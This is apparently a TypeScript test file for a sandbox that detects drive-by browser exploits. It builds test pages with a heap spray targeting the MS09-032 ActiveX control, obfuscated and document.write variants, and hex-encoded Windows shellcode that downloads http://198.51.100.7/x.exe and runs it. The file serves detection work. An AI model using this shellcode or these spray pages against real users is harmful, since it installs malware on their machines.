/**
 * The client-side dummy's browser: exploit pages written for these tests (a `%u` heap spray carrying
 * a small download-and-execute shellcode, an obfuscated concatenation, a document.write of
 * String.fromCharCode), and an ordinary page that must yield nothing.
 */
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { describe, it } from 'node:test';
import { EmulatedDriver } from '../../../src/drivers/index.ts';
import { decodePage, decodeScriptStrings, defaultInterpreters, looksLikeHeapSpray, parseHttpResponses, serviceResolver } from '../../../src/emulator/index.ts';
import { defaultCatalogue } from '../../../src/sandbox/index.ts';
import { judge } from '../../../src/verdict/index.ts';
import { WINDOWS_X86_CONNECT } from '../windows/handwritten-shellcode.ts';

/**
 * The ROR13 resolver of handwritten-shellcode.ts (offsets 0–0x8d) with a tail assembled for this
 * test (GNU as): LoadLibraryA("urlmon"); URLDownloadToFileA(0, "http://198.51.100.7/x.exe",
 * "C:\x.exe", 0, 0); WinExec("C:\x.exe", 0); ExitProcess(0). The URL and file follow a call/pop.
 */
const DOWNLOAD_EXEC_TAIL = Buffer.from(
  '5d686f6e00006875726c6d54684c772607ffd5eb255e31c050508d5e1a535650688820fc31ffd56a005368318b6f87ffd56a0068f0b5a256ffd5e8d6ffffff' +
    '687474703a2f2f3139382e35312e3130302e372f782e65786500433a5c782e65786500',
  'hex',
);
const SHELLCODE = Buffer.concat([Buffer.from(WINDOWS_X86_CONNECT.subarray(0, 0x8e)), DOWNLOAD_EXEC_TAIL]);

/** `%uXXXX` escapes of the code as a browser stores it (UTF-16LE), padded to whole characters */
function percentU(bytes: Buffer): string {
  const even = bytes.length % 2 === 0 ? bytes : Buffer.concat([bytes, Buffer.from([0x90])]);
  let out = '';
  for (let index = 0; index < even.length; index += 2) out += `%u${even.readUInt16LE(index).toString(16).padStart(4, '0')}`;
  return out;
}

function response(body: string, contentType = 'text/html', gzip = false): Buffer {
  const payload = gzip ? gzipSync(Buffer.from(body, 'latin1')) : Buffer.from(body, 'latin1');
  const headers = [`HTTP/1.1 200 OK`, `Content-Type: ${contentType}`, `Content-Length: ${payload.length}`, ...(gzip ? ['Content-Encoding: gzip'] : [])];
  return Buffer.concat([Buffer.from(`${headers.join('\r\n')}\r\n\r\n`, 'latin1'), payload]);
}

const SPRAY_PAGE = `<html><body>
<object classid="clsid:0955AC62-BF2E-4CBA-A2B9-A63F772D46CF" id="video"></object>
<script>
var shellcode = unescape("${percentU(SHELLCODE)}");
var sled = unescape("%u0c0c%u0c0c");
while (sled.length < 0x40000) sled += sled;
var blocks = new Array();
for (var i = 0; i < 400; i++) blocks[i] = sled + shellcode;
</script></body></html>`;

const OBFUSCATED_PAGE = `<html><script>
var part = "${percentU(SHELLCODE).replace(/%/g, '@').slice(0, 120)}";
part += "${percentU(SHELLCODE).replace(/%/g, '@').slice(120)}";
var code = unescape(part.replace(/@/g, "%" + ""));
var spray = unescape("%u0a0a" + "%u0a0a");
while (spray.length < 0x20000) spray += spray;
</script></html>`;

const WRITTEN_PAGE = (() => {
  const inner = `<script>var z = unescape("${percentU(SHELLCODE)}");</script>`;
  const codes = [...inner].map((char) => char.charCodeAt(0)).join(',');
  return `<html><script>document.write(String.fromCharCode(${codes}));</script></html>`;
})();

const BENIGN_PAGE = `<!doctype html><html><head><script>
var _gaq = _gaq || []; _gaq.push(['_setAccount', 'UA-000000-1']);
function greet(name) { var text = "Hello, " + name + "!"; document.getElementById("out").innerHTML = escape(text); }
var title = unescape("caf%E9 %26 cr%E8me"); var items = []; for (var i = 0; i < 10; i++) items.push(i * 2);
var s = String.fromCharCode(72, 105);
</script></head><body onload="greet('you')"><embed src="movie.swf" type="application/x-shockwave-flash"><p id="out"></p></body></html>`;

const catalogue = defaultCatalogue();

async function browseWith(profileId: string, pages: Buffer[]) {
  const driver = new EmulatedDriver({ services: serviceResolver(), interpreters: defaultInterpreters() });
  const victim = await driver.create(catalogue.get(profileId));
  try {
    await victim.browse!(pages);
    return judge(victim.observations());
  } finally {
    await driver.close();
  }
}

describe('static script strings', () => {
  it('unescape of %u runs, concatenation, += and .replace of a literal', () => {
    const decoded = decodeScriptStrings('var a = "%u4141" + \'%u4242\'; a += "%u4343"; var b = unescape(a.replace(/%u43/g, "%u44"));');
    assert.ok(decoded.some((item) => item.text === '\u4141\u4242\u4443' && item.via.includes('unescape')));
  });

  it('String.fromCharCode of literals and small arithmetic; nothing for calls it does not know', () => {
    assert.deepEqual(decodeScriptStrings('x = String.fromCharCode(0x41, 66, 70-3);').map((item) => item.text), ['ABC']);
    assert.deepEqual(decodeScriptStrings('x = unescape(location.hash); y = unescape(f("%41"));'), []);
  });

  it('hostile input is data: unterminated strings, deep nesting and huge doubling stay bounded', () => {
    const started = performance.now();
    decodeScriptStrings(`a = "x${'('.repeat(10_000)}`);
    decodeScriptStrings(`var s = unescape("%u9090"); ${'s += s; '.repeat(200)}`, { maxValueChars: 1 << 16 });
    decodeScriptStrings('a='.repeat(50_000));
    looksLikeHeapSpray('a'.repeat(200_000) + ' += ' + 'b'.repeat(200_000));
    assert.ok(performance.now() - started < 3_000);
  });

  it('a spray loop is recognised; an ordinary loop is not', () => {
    assert.ok(looksLikeHeapSpray('while (sled.length < 0x40000) sled += sled;'));
    assert.ok(!looksLikeHeapSpray('for (var i = 0; i < 10; i++) items.push(i);'));
  });
});

describe('pages and responses', () => {
  it('reads chunked and gzip responses one after another', () => {
    const chunked = Buffer.from('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Type: text/html\r\n\r\n5\r\n<html\r\n1\r\n>\r\n0\r\n\r\n', 'latin1');
    const parsed = parseHttpResponses(Buffer.concat([chunked, response('<p>hi</p>', 'text/html', true)]));
    assert.deepEqual(parsed.responses.map((item) => item.body.toString()), ['<html>', '<p>hi</p>']);
  });

  it('finds the decoded code, the spray and the ActiveX object of an exploit page', () => {
    const findings = decodePage(Buffer.from(SPRAY_PAGE, 'latin1'), 'text/html');
    assert.ok(findings.heapSpray);
    assert.ok(findings.binaries.some((bytes) => bytes.subarray(0, SHELLCODE.length).equals(SHELLCODE)));
    assert.ok(findings.objects.some((object) => object.plugin === 'activex' && object.detail === '0955AC62-BF2E-4CBA-A2B9-A63F772D46CF'));
  });

  it('a document.write of String.fromCharCode is read as HTML in turn', () => {
    const findings = decodePage(Buffer.from(WRITTEN_PAGE, 'latin1'), 'text/html');
    assert.ok(findings.binaries.some((bytes) => bytes.subarray(0, SHELLCODE.length).equals(SHELLCODE)));
  });
});

describe('client-side dummies browse', () => {
  it('a heap spray naming MS09-032 on XP SP2 with IE6: exploited, and the code downloads and runs a file', async () => {
    const judgement = await browseWith('win-xp-sp2-ie6-client', [response(SPRAY_PAGE, 'text/html', true)]);
    assert.equal(judgement.level, 'compromised');
    assert.deepEqual(judgement.vulnerabilities, ['MS09-032']);
    const calls = judgement.evidence.filter((item) => item.kind === 'code').flatMap((item) => item.calls as string[]);
    assert.ok(calls.some((call) => /URLDownloadToFileA|198\.51\.100\.7/.test(call)), calls.join('\n'));
    assert.ok(judgement.evidence.some((item) => item.kind === 'exec' && /x\.exe/.test(String(item.command))));
  });

  it('the same page on Windows 7 (msvidctl not affected): an attempt, the code does not run', async () => {
    const judgement = await browseWith('win-7-sp1-ie8-client', [response(SPRAY_PAGE)]);
    assert.equal(judgement.level, 'attempted');
    assert.ok(!judgement.evidence.some((item) => item.kind === 'code'));
  });

  it('an obfuscated page naming no vulnerability: the generic id, and the code runs', async () => {
    const judgement = await browseWith('win-xp-sp3-ie7-client', [response(OBFUSCATED_PAGE)]);
    assert.equal(judgement.level, 'compromised');
    assert.ok(judgement.evidence.some((item) => item.kind === 'exploit' && item.vulnerability === 'client-side-code-execution' && item.vulnerable === false));
  });

  it('an ordinary page with JavaScript and a Flash embed: nothing at all', async () => {
    const judgement = await browseWith('win-xp-sp2-ie6-client', [response(BENIGN_PAGE), response('MZ not really', 'application/octet-stream')]);
    assert.equal(judgement.level, null);
    assert.deepEqual(judgement.evidence, []);
  });
});
